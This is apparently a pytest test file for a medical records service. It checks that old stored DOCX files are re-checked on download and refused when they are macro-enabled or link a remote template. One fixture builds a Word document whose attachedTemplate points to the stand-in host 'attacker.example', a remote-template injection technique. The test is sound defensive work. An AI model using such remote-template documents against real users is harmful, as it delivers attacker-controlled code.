"""sec17: a DOCX stored before round sixteen's check (macros, a part Word fetches from
elsewhere) was handed to the doctor as stored, to open in Word. Its download now checks
it again as an upload is checked, in a reading child: refused saying why, nothing recorded
on the audit trail; a plain DOCX downloads as before."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from core.analysis.reading.isolation import IsolatedReading, ReadingLimits
from core.docx_parts import EXTERNAL, MACROS
from core.errors import InvalidInput
from core.models import NewCase, Upload
from core.services import CaseService
from tests import samples
from tests.contract.harness import LocalHarness, SignedIn
from tests.doubles import case_service

FORM = NewCase(patient_name="Ada Quist", patient_age=58, patient_gender="female")


def _macro_enabled() -> bytes:
    types = (
        b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'content-types"><Override PartName="/word/document.xml" ContentType="application/'
        b'vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    )
    return samples.docx_with_parts(changes={"[Content_Types].xml": types})


@pytest.fixture
def signed_in(tmp_path: Path) -> SignedIn:
    return LocalHarness(tmp_path / "data").sign_up()


@pytest.mark.parametrize(
    ("hostile", "why"),
    [
        (
            lambda: samples.docx_with_parts(
                added=samples.docx_settings_linking(
                    "attachedTemplate", "https://attacker.example/t.dotm"
                )
            ),
            EXTERNAL,
        ),
        (_macro_enabled, MACROS),
    ],
    ids=["remote-template", "macros"],
)
def test_a_docx_stored_before_the_check_is_not_handed_out(
    signed_in: SignedIn, hostile: Callable[[], bytes], why: str
) -> None:
    services = case_service(
        signed_in.doctor, signed_in.backend, reading=IsolatedReading(ReadingLimits(seconds=60))
    )
    plain = samples.docx_bytes()
    created = services.create_case(FORM, [Upload("report.docx", plain, "lab")])
    case_id = created.case.case_id
    [record] = services.list_files(case_id)
    assert services.download_file(case_id, record.file_id) == plain
    # The stored bytes as an older version kept them: never checked at upload.
    signed_in.backend.blobs.put(record.file_url, hostile(), record.file_type)
    downloads = _downloads(services, case_id)

    with pytest.raises(InvalidInput) as refused:
        services.download_file(case_id, record.file_id)

    assert refused.value.detail == f"'report.docx' is not downloaded: {why}"
    assert "attacker" not in refused.value.detail
    assert _downloads(services, case_id) == downloads


def _downloads(services: CaseService, case_id: str) -> int:
    events = services.audit_events(case_id)
    return sum(1 for event in events if event.action == "file_downloaded")
